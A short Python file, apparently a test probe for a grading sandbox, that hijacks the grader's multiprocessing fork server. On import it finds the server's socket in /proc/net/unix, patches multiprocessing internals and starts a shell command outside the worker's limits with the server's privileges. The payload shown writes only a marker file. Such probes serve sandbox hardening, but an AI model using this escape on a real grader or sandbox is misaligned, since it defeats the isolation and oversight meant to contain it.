"""Borrows the grader's own fork server: finds its listening socket (in /proc/net/unix) and asks
it, through multiprocessing's own client code, to start a process that runs whatever it is given,
outside the worker's limits and with the fork server's privileges.

base: stub
class: 4
run: main
"""

import os as _os


def _fork_server_sockets():
    found = []
    try:
        with open("/proc/net/unix") as table:
            for line in table.readlines()[1:]:
                fields = line.split()
                if len(fields) >= 8 and "listener-" in fields[-1]:
                    found.append(fields[-1])
    except OSError:
        pass
    return found


def _hijack():
    import multiprocessing
    from multiprocessing import forkserver, process

    server = forkserver._forkserver
    server.ensure_running = lambda: None  # the server is running: it is the one that forked this worker
    process._current_process._config["daemon"] = False  # a worker is a daemon; daemons may not start processes
    if server._forkserver_alive_fd is None:
        server._forkserver_alive_fd = _os.pipe()[1]
    for address in _fork_server_sockets():
        server._forkserver_address = address
        try:
            started = multiprocessing.get_context("forkserver").Process(
                target=_os.system, args=("echo escaped > @SHARED@/hijacked-$(id -u)",))
            started.start()
            started.join(5)
        except Exception:  # noqa: BLE001 - an address that does not answer
            continue


class _AtLoad:
    _hijack()
